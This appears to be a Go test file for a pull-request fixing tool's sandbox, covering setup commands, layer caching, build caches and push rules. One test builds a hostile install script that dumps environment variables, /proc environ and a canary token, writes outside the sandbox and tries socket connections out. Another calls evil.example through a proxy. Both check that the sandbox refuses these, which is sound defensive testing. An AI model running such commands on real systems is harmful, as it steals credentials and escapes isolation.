package fixspace

import (
	"context"
	"crypto/rand"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/prloop/prloop/internal/buildlayers"
	"github.com/prloop/prloop/internal/proc"
	"github.com/prloop/prloop/internal/pushpolicy"
	"github.com/prloop/prloop/internal/registries"
	"github.com/prloop/prloop/internal/testkit/registry"
	"github.com/prloop/prloop/review"
)

// sites is a world with a registry that its setups may reach, and layers.
type sites struct {
	*world
	registry *registry.Registry
	order    SetupOrder
	// opened counts the ways out that were opened.
	opened int
	// state is where layers are kept.
	state string
}

func newSites(t *testing.T, evil string, files map[string]string) *sites {
	t.Helper()
	s := &sites{world: newWorld(t, files), registry: registry.Start(evil), state: filepath.Join(t.TempDir(), "layers")}
	t.Cleanup(s.registry.Close)
	kept, err := buildlayers.Open(s.state)
	if err != nil {
		t.Fatal(err)
	}
	s.workspace.Layers, s.workspace.OwnFiles, s.workspace.Verifying.Builds = kept, true, "build-7"
	s.order = SetupOrder{Commit: s.base, Whose: "acme/shop main", Registries: func(ctx context.Context) (WayOut, error) {
		s.opened++
		dir, err := os.MkdirTemp("", "out")
		if err != nil {
			return nil, err
		}
		t.Cleanup(func() { _ = os.RemoveAll(dir) })
		return registries.Start(ctx, dir, []string{s.registry.Host()})
	}}
	return s
}

// setUp runs commands, in which REGISTRY stands for the registry, and gives what they left to the workspace.
func (s *sites) setUp(commands ...string) []review.Check {
	s.Helper()
	for i, c := range commands {
		commands[i] = strings.ReplaceAll(c, "REGISTRY", "http://"+s.registry.Host())
	}
	s.order.Commands = commands
	layer, checks, err := s.workspace.SetUp(s.Context(), s.order)
	if err != nil {
		s.Fatal(err)
	}
	if layer != nil {
		s.Cleanup(func() { _ = layer.Close() })
	}
	s.workspace.Verifying.Setup = layer
	return checks
}

// passes runs commands on a commit of the branch and wants them to pass.
func (s *sites) passes(commit string, commands ...string) {
	s.Helper()
	checks, err := s.workspace.Verify(s.Context(), VerifyOrder{Commit: commit, OnBranch: true, Commands: commands})
	if err != nil {
		s.Fatal(err)
	}
	for _, c := range checks {
		if c.State != review.CheckPassed {
			s.Errorf("%s: %s\n%s", c.Command, c.State, c.Log)
		}
	}
}

// A test suite may watch files; setup commands, which have a way out, may not (threats.md T686).
func TestOnlyVerifyCommandsWatch(t *testing.T) {
	s := newSites(t, "", map[string]string{"a": "a\n"})
	watch := `LC_ALL=C timeout 1 tail -f a 2>&1 | tee said; ! grep -q "inotify cannot be used" said`
	if checks := s.setUp(watch); len(checks) != 1 || checks[0].State != review.CheckFailed {
		t.Errorf("a setup command watches: %+v", checks)
	}
	s.passes(s.base, watch)
}

func need(t *testing.T, programs ...string) {
	t.Helper()
	for _, p := range programs {
		if path, err := proc.LookPath(p); err != nil || !strings.HasPrefix(path, "/usr/") {
			t.Skipf("%s is not installed where the sandbox shows it", p)
		}
	}
}

// shop is a TypeScript repository with a package of its own registry and a compiler.
var shop = map[string]string{
	"package.json": `{"name": "shop", "version": "1.0.0", "private": true, "scripts": {"build": "tiny-tsc src/total.ts", "test": "node src/test.js"},
"dependencies": {"tiny": "1.0.0"}, "devDependencies": {"tiny-tsc": "1.0.0"}}`,
	"package-lock.json": `{"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": {
"": {"name": "shop", "version": "1.0.0", "dependencies": {"tiny": "1.0.0"}, "devDependencies": {"tiny-tsc": "1.0.0"}},
"node_modules/tiny": {"version": "1.0.0"},
"node_modules/tiny-tsc": {"version": "1.0.0", "dev": true, "bin": {"tiny-tsc": "tsc.js"}}}}`,
	"src/total.ts": "import { add } from 'tiny';\nexport function total(list: number[]): number {\n  return list.reduce(add);\n}\n",
	"src/test.js":  "const { total } = require('./total');\nif (total([1, 2, 3]) !== 6 || total([]) !== 0) process.exit(1);\n",
}

// A TypeScript repository: set up once, its verifications pass offline, and a second time nothing is asked.
func TestSetUpNPM(t *testing.T) {
	need(t, "node", "npm")
	s := newSites(t, "", shop)
	head := s.commit(map[string]string{"src/total.ts": strings.Replace(shop["src/total.ts"], "add)", "add, 0)", 1)})
	s.fetch()
	before := s.one("npm run build")
	if before.State == review.CheckPassed {
		t.Fatalf("without packages the build passes: the test would not notice")
	}
	checks := s.setUp("npm ci --ignore-scripts --registry REGISTRY/npm/")
	if len(checks) != 1 || checks[0].State != review.CheckPassed {
		t.Fatalf("%+v", checks)
	}
	asked := s.registry.Asked()
	if asked == 0 {
		t.Error("the registry was not asked: the test would not notice")
	}
	s.passes(head, "npm run build", "npm run test", "touch node_modules/tiny/written node_modules/.cache")
	if got := s.one("npm run build && npm run test"); got.State != review.CheckFailed || got.ExitCode != 1 {
		t.Errorf("the base, which has the fault: %+v", got)
	}
	if got := s.one("test -e node_modules/tiny/written"); got.State != review.CheckFailed {
		t.Error("what a verification wrote is in the layer")
	}
	if again := s.setUp("npm ci --ignore-scripts --registry REGISTRY/npm/"); len(again) != 0 || s.opened != 1 || s.registry.Asked() != asked {
		t.Errorf("the second setup ran %+v, opened %d ways out and asked %d times", again, s.opened, s.registry.Asked()-asked)
	}
	s.passes(head, "npm run build", "npm run test")
	s.left("")
}

// A Go repository: the modules are read where they are kept, and the cache of builds is one pull request's.
func TestSetUpGo(t *testing.T) {
	if testing.Short() {
		t.Skip("it builds a part of the standard library: go test without -short does")
	}
	need(t, "go")
	s := newSites(t, "", map[string]string{
		"go.mod": "module shop\n\ngo 1.21\n\nrequire " + registry.Module + " v" + registry.Version + "\n", "go.sum": registry.GoSum(),
		"total.go":   "package shop\n\nimport \"" + registry.Module + "\"\n\nfunc Total(list ...int) (n int) {\n\tfor _, x := range list[1:] {\n\t\tn = sum.Add(n, x)\n\t}\n\treturn n\n}\n",
		"check/x.go": "package main\n\nimport \"shop\"\n\nfunc main() {\n\tif shop.Total(1, 2) != 3 {\n\t\tpanic(\"not the sum\")\n\t}\n}\n",
	})
	head := s.commit(map[string]string{"total.go": "package shop\n\nimport \"" + registry.Module + "\"\n\nfunc Total(list ...int) (n int) {\n\tfor _, x := range list {\n\t\tn = sum.Add(n, x)\n\t}\n\treturn n\n}\n"})
	s.fetch()
	s.workspace.Verifying.Env = []string{"GOTOOLCHAIN=local", "CGO_ENABLED=0"}
	checks := s.setUp("GOPROXY=REGISTRY/go go mod download")
	if len(checks) != 1 || checks[0].State != review.CheckPassed {
		t.Fatalf("%+v", checks)
	}
	asked := s.registry.Asked()
	s.passes(head, "go run ./check", `test -d "$GOMODCACHE" && ! touch "$GOMODCACHE/x"`)
	if got := s.one("go run ./check"); got.State != review.CheckFailed || !strings.Contains(got.Log, "not the sum") {
		t.Errorf("the base, which has the fault: %+v", got)
	}
	if s.registry.Asked() != asked || asked == 0 {
		t.Errorf("the registry was asked %d times in the setup, %d after it", asked, s.registry.Asked()-asked)
	}
	s.passes(head, `go build -x ./check 2>&1 | tee log; ! grep -q /compile log`) // what was built stands in the cache
	s.workspace.Verifying.Builds = "build-8"
	if got := s.one(`test -z "$(ls -A "$GOCACHE" 2>/dev/null)"`); got.State != review.CheckPassed {
		t.Errorf("another pull request begins with this one's cache: %+v", got)
	}
	s.left("")
}

// What runs in a setup, by the repository's word or that of a package, reaches nothing but the registry, reads nothing of the machine and
// writes nowhere but where it is (threats.md T130, T131, T133).
func TestSetUpHoldsNothing(t *testing.T) {
	need(t, "node", "npm")
	canary := "canary-" + rand.Text()
	t.Setenv("GH_TOKEN", canary)
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "key"), []byte(canary), 0o644); err != nil {
		t.Fatal(err)
	}
	beacon, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var calls atomic.Int32
	go func() {
		for {
			c, err := beacon.Accept()
			if err != nil {
				return
			}
			calls.Add(1)
			c.Close()
		}
	}()
	defer beacon.Close()
	_, port, _ := net.SplitHostPort(beacon.Addr().String())
	evil := `exec 2>&1
OUT="${LOOT:-$HOME/loot}"; mkdir -p "$OUT"
{ env; cat OUTSIDE/key; cat /proc/*/environ | tr '\0' '\n'; cat "$HOME"/../../../*/* ; } >"$OUT/read"
touch OUTSIDE/planted /usr/planted "$HOME/../planted" && echo wrote >>"$OUT/wrote"
ln -s OUTSIDE/planted way; echo x >way && echo wrote >>"$OUT/wrote"
for to in 127.0.0.1 localhost beacon.localhost; do
  perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"'$to':PORT",Timeout=>5) and print "reached\n"' >>"$OUT/reached"
  perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"127.0.0.1:4000",Timeout=>5) or exit; for my $q ("CONNECT '$to':PORT HTTP/1.1\r\nHost: x\r\n\r\n", "GET http://'$to':PORT/ HTTP/1.1\r\nHost: '$to'\r\nConnection: close\r\n\r\n") { print $s $q; my $a=<$s>; print "asked: $a"; }' >>"$OUT/asked"
done
perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"192.0.2.1:80",Timeout=>2) and print "reached\n"' >>"$OUT/reached"
true`
	evil = strings.NewReplacer("OUTSIDE", outside, "PORT", port).Replace(evil)
	s := newSites(t, evil, map[string]string{
		"package.json": `{"name": "shop", "version": "1.0.0", "private": true, "dependencies": {"evil": "1.0.0"}}`,
		"package-lock.json": `{"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": {
"": {"name": "shop", "version": "1.0.0", "dependencies": {"evil": "1.0.0"}}, "node_modules/evil": {"version": "1.0.0", "hasInstallScript": true}}}`,
		"setup.sh": evil + "\n",
	})
	checks := s.setUp("npm ci --foreground-scripts --registry REGISTRY/npm/", "LOOT=$HOME/setup sh ./setup.sh")
	if len(checks) != 2 || checks[1].State != review.CheckPassed {
		t.Fatalf("%+v", checks)
	}
	for _, who := range []string{"loot", "setup"} {
		got := s.one(`cd "$HOME/` + who + `" && cat read && ! test -e wrote && cat reached asked; false`)
		if !strings.Contains(got.Log, "asked: HTTP/1.1 403") {
			t.Errorf("%s did not ask the proxy: the test would not notice: %s", who, got.Log)
		}
		if strings.Contains(got.Log, canary) || strings.Contains(got.Log, "reached") || strings.Contains(got.Log, "HTTP/1.1 200") || strings.Contains(got.Log, "No such file or directory") && !strings.Contains(got.Log, "PATH=") {
			t.Errorf("%s: %s", who, got.Log)
		}
	}
	if n := calls.Load(); n != 0 {
		t.Errorf("%d calls reached the beacon", n)
	}
	if entries, err := os.ReadDir(outside); err != nil || len(entries) != 1 {
		t.Errorf("something was written outside: %v %v", entries, err)
	}
	s.left("")
}

// A setup that fails keeps nothing, says why, and the next one is tried anew.
func TestSetUpFails(t *testing.T) {
	s := newSites(t, "", map[string]string{"a": "a\n", "package.json": "{}"})
	checks := s.setUp("touch made", "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"127.0.0.1:4000\"); print $s \"CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n\"; <$s>'; exit 3", "true")
	if len(checks) != 2 || checks[0].State != review.CheckPassed || checks[1].State != review.CheckFailed || !strings.Contains(checks[1].Log, `prloop: refused: "evil.example:443": it is none of verify_registries`) {
		t.Errorf("%+v", checks)
	}
	if entries, err := os.ReadDir(s.state); err != nil || len(entries) != 0 {
		t.Errorf("something is kept: %v %v", entries, err)
	}
	if checks := s.setUp("touch made"); len(checks) != 1 || checks[0].State != review.CheckPassed {
		t.Errorf("%+v", checks)
	}
	s.passes(s.base, "test -f made")
	s.workspace.Bounds.FolderBytes = 1 << 20
	if checks := s.setUp("head -c 2M /dev/zero >large"); checks[0].State != review.CheckFailed || s.workspace.Verifying.Setup != nil {
		t.Errorf("%+v", checks)
	}
	if checks := s.setUp("head -c 700K /dev/zero >large", "head -c 700K /dev/zero >~/large"); checks[1].State != review.CheckFailed || !strings.Contains(checks[1].Log, "larger than 1 MB") || s.workspace.Verifying.Setup != nil {
		t.Errorf("two parts that are too large together: %+v", checks)
	}
	s.workspace.Bounds.FolderBytes = 0
	s.order.Registries = nil
	if checks := s.setUp("test -z \"$HTTPS_PROXY$https_proxy\""); checks[0].State != review.CheckPassed {
		t.Errorf("without registries there is a proxy: %+v", checks)
	}
	s.left("")
}

// A layer is used again for the same lock files, commands, programs and branch, and for nobody else (threats.md T134).
func TestLayerNames(t *testing.T) {
	s := newSites(t, "", map[string]string{"package.json": "{}", "code.js": "1\n", "tools/setup.sh": "true\n", "sub/go.sum": "x\n"})
	s.order.Commands = []string{"sh tools/setup.sh && true"}
	name := func() string {
		t.Helper()
		n, err := s.workspace.layerName(t.Context(), s.order)
		if err != nil {
			t.Fatal(err)
		}
		return n
	}
	first := name()
	at := func(files map[string]string) string {
		t.Helper()
		s.order.Commit = s.commit(files)
		s.fetch()
		return name()
	}
	if at(map[string]string{"code.js": "2\n"}) != first {
		t.Error("other code is another setup")
	}
	names := map[string]string{first: "the first"}
	for _, change := range []struct {
		what string
		do   func() string
	}{
		{"another manifest", func() string { return at(map[string]string{"package.json": "{ }"}) }},
		{"another lock file in a folder", func() string { return at(map[string]string{"sub/go.sum": "y\n"}) }},
		{"another script that the setup names", func() string { return at(map[string]string{"tools/setup.sh": "false\n"}) }},
		{"another branch", func() string { s.order.Whose = "acme/shop evil"; return name() }},
		{"another command", func() string { s.order.Commands = []string{"sh tools/setup.sh"}; return name() }},
		{"another variable", func() string { s.workspace.Verifying.Env = []string{"A=b"}; return name() }},
		{"another PATH", func() string { s.workspace.Verifying.Path = "/usr/bin"; return name() }},
		{"something withheld", func() string { s.workspace.Verifying.Withheld = []string{"secret/**"}; return name() }},
		{"more withheld", func() string { s.workspace.Verifying.Withheld = []string{"secret/**", "keys"}; return name() }},
	} {
		n := change.do()
		if names[n] != "" {
			t.Errorf("%s is the setup of %s", change.what, names[n])
		}
		names[n] = change.what
	}
	last := name()
	s.workspace.Verifying.Withheld = []string{"keys", "secret/**", "keys"}
	if name() != last {
		t.Error("the same globs in another order are another setup")
	}
	s.workspace.Verifying.ReadAll = true
	if n := name(); names[n] != "another PATH" {
		t.Errorf("who may read all has the setup of %q, want that of where nothing is withheld", names[n])
	}
}

// A build cache that was made where more could be read is not seen where it is withheld (threats.md T346).
func TestBuildCachesGoByWhatIsWithheld(t *testing.T) {
	s := newSites(t, "", map[string]string{"a": "a\n"})
	write := func(what string) string {
		return `mkdir -p "$XDG_CACHE_HOME" && echo ` + what + ` >>"$XDG_CACHE_HOME/x"`
	}
	const read = `cat "$XDG_CACHE_HOME/x" 2>/dev/null; true`
	see := func(o VerifyOptions, want string) {
		t.Helper()
		s.workspace.Verifying.Withheld, s.workspace.Verifying.ReadAll = o.Withheld, o.ReadAll
		if got := s.one(read); got.Log != want {
			t.Errorf("%v, all read %v: it holds %q, want %q", o.Withheld, o.ReadAll, got.Log, want)
		}
	}
	s.passes(s.base, write("all"))
	see(VerifyOptions{Withheld: []string{"b", "c"}}, "")
	s.passes(s.base, write("less"))
	see(VerifyOptions{Withheld: []string{"c", "b"}}, "less\n")
	see(VerifyOptions{Withheld: []string{"b", "c", "d"}}, "")
	see(VerifyOptions{Withheld: []string{"b"}}, "")
	see(VerifyOptions{Withheld: []string{"b", "c"}, ReadAll: true}, "all\n")
	see(VerifyOptions{}, "all\n")
}

// The commit's own files stand, whatever the setup wrote: a pull request cannot have files of the base in place of its own, nor the other
// way round, and a link that it puts in the way leads nowhere.
func TestTheCommitsFilesStand(t *testing.T) {
	s := newSites(t, "", map[string]string{"kept/a": "base\n", "package.json": "{}"})
	outside := t.TempDir()
	s.commit(map[string]string{"kept/a": "head\n", "made/x": "of the head\n", "file": "of the head\n"})
	if err := os.Symlink(outside, filepath.Join(s.origin, "way")); err != nil {
		t.Fatal(err)
	}
	s.git(s.origin, "add", "-A")
	s.git(s.origin, "commit", "-q", "-m", "way")
	head := s.git(s.origin, "rev-parse", "HEAD")
	s.fetch()
	s.setUp("echo changed >kept/a; mkdir made file way; echo setup | tee made/x made/y file/x way/x kept/new", "ln -s "+outside+" link")
	s.passes(head, `test "$(cat kept/a made/x made/y file kept/new)" = "head
of the head
setup
of the head
setup"`, "test -f way", "test -L link", "! test -e link/x")
	if entries, err := os.ReadDir(outside); err != nil || len(entries) != 0 {
		t.Errorf("something was written outside: %v %v", entries, err)
	}
}

// The sandbox shows a room at one place, so that what knows its own place, as a virtual environment does, works in every room.
func TestARoomIsAtOnePlace(t *testing.T) {
	s := newSites(t, "", map[string]string{"package.json": "{}"})
	s.setUp(`printf '#!/bin/sh\necho found\n' >tool; chmod +x tool; mkdir bin; ln -s "$PWD/tool" bin/tool`)
	s.passes(s.base, `test "$(bin/tool)" = found`)
}

// What a pull request makes of its cache of builds fails no verification, and reaches nothing outside (threats.md T134).
func TestBuildCachesAreUntrusted(t *testing.T) {
	s := newSites(t, "", map[string]string{"a": "a\n"})
	outside := t.TempDir()
	for _, c := range []string{
		`mkdir -p "$XDG_CACHE_HOME/x" && echo 1 >"$XDG_CACHE_HOME/x/y"`,
		`test "$(cat "$XDG_CACHE_HOME/x/y")" = 1 && ln -s ` + outside + `/size "$XDG_CACHE_HOME/.size" && mkfifo "$XDG_CACHE_HOME/pipe" && chmod 4755 "$XDG_CACHE_HOME/x/y"`,
		`test -L "$XDG_CACHE_HOME/.size" && ! test -e "$XDG_CACHE_HOME/pipe" && ! test -u "$XDG_CACHE_HOME/x/y" && mkdir -p "$XDG_CACHE_HOME/closed/in" && chmod 0 "$XDG_CACHE_HOME/closed"`,
		`true`,
		`cd "$XDG_CACHE_HOME" && for i in $(seq 300); do mkdir d && cd d || exit 1; done`,
		`! test -e "$XDG_CACHE_HOME/d"`,
	} {
		s.passes(s.base, c)
	}
	if entries, err := os.ReadDir(outside); err != nil || len(entries) != 0 {
		t.Errorf("something was written outside: %v %v", entries, err)
	}
	s.left("")
}

// What a try of the fixer leaves in the cache of builds is gone with it, whether prloop or the fixer asked for the commands: the code
// that wrote it would stand in no commit that is pushed. A commit of the branch leaves its own (threats.md T320).
func TestTriesLeaveNoBuilds(t *testing.T) {
	s := newSites(t, "", map[string]string{"a": "a\n"})
	write := `mkdir -p "$XDG_CACHE_HOME" && echo "$(cat a)" >>"$XDG_CACHE_HOME/x"`
	kept := func(want string) {
		t.Helper()
		if got := s.one(`cat "$XDG_CACHE_HOME/x" 2>/dev/null; true`); got.Log != want {
			t.Errorf("a verification begins with %q, want %q", got.Log, want)
		}
	}
	if got := s.one(write); got.State != review.CheckPassed {
		t.Fatalf("%+v", got)
	}
	kept("")
	o := s.world.order()
	o.Verify = []string{write, write + "; false"}
	clones := func(detected bool) {
		t.Helper()
		o.Detected = detected
		o.Try++
		s.workspace.Ask = func(ctx context.Context, _ review.Task, clone string, _ func(review.Event)) review.Answer {
			if err := os.WriteFile(filepath.Join(clone, "a"), []byte("clone\n"), 0o600); err != nil {
				t.Error(err)
			}
			if got, err := s.workspace.CheckClone(ctx, o, clone, AllChecks); err != nil || len(got) != 2 || got[0].State != review.CheckPassed {
				t.Errorf("%+v %v", got, err)
			}
			return review.Answer{}
		}
		s.fix(o)
	}
	clones(false)
	clones(true)
	kept("")
	s.passes(s.base, write)
	kept("a\n")
	s.one(write)
	clones(true)
	kept("a\n")
	s.left("")
}

// The operator's caches are read, and nothing beside them is.
func TestLentCaches(t *testing.T) {
	s := newSites(t, "", map[string]string{"a": "a\n"})
	dir := t.TempDir()
	for _, name := range []string{"go/tiny@v1/x", "cargo/registry/x", "cargo/credentials.toml", "npm/_cacache/x", "npm/_logs/x"} {
		file := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte("lent"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	s.workspace.Verifying.Lent = []Lent{{LendGo, dir + "/go"}, {LendCargo, dir + "/cargo"}, {LendNPM, dir + "/npm"}}
	s.passes(s.base, `test "$(cat "$GOMODCACHE/tiny@v1/x" "$CARGO_HOME/registry/x" "$npm_config_cache/_cacache/x")" = lentlentlent`,
		`! cat "$CARGO_HOME/credentials.toml" && ! cat "$npm_config_cache/_logs/x" && ! cat `+dir+`/cargo/credentials.toml`,
		`! touch "$GOMODCACHE/x" && ! touch "$CARGO_HOME/registry/y" && ! touch "$npm_config_cache/_cacache/y" && touch "$CARGO_HOME/.package-cache" "$npm_config_cache/log"`)
	s.workspace.Verifying.Lent = nil
	s.passes(s.base, `! test -e "$GOMODCACHE/tiny@v1"`)
}

// A fix takes the place of nothing that the setup left: the verify commands would use the fixer's in its stead (threats.md T347).
func TestAFixIsNotOverTheSetup(t *testing.T) {
	s := newSites(t, "", map[string]string{"a.txt": "a\n", "kept/a.txt": "a\n", "lib/known.txt": "base\n"})
	s.setUp(`mkdir -p lib/runner && echo 'false' >lib/runner/run.sh && echo made >made && ln -s made link && echo changed >lib/known.txt && echo new >kept/new`)
	for script, want := range map[string]string{
		"mkdir lib/runner; echo true >lib/runner/run.sh":                             "lib/runner/run.sh",
		"echo true >lib/runner":                                                      "lib/runner",
		"mkdir made; echo true >made/x":                                              "made/x",
		"echo true >link":                                                            "link",
		"mkdir link; echo true >link/x":                                              "link/x",
		"mkdir lib/runner; git mv a.txt lib/runner/run.sh; echo x >a.txt":            "lib/runner/run.sh",
		"echo true >lib/more.txt; echo b >lib/known.txt; echo true >kept/other":      "",
		"mkdir lib/runner; echo true >lib/runner/more; rm kept/a.txt; echo b >a.txt": "",
	} {
		s.script(script)
		o := s.world.order()
		o.PRFiles, o.PRLines = 10, 100
		work := s.fix(o)
		if want == "" {
			if work.Tip == "" {
				t.Errorf("%s: %+v", script, work.Refusals)
			}
			continue
		}
		if work.Tip != "" || len(work.Refusals) != 1 || work.Refusals[0].Rule != pushpolicy.RuleSetupFile || work.Refusals[0].Path != want {
			t.Errorf("%s: %q %+v", script, work.Tip, work.Refusals)
		}
	}
	s.left("")
}
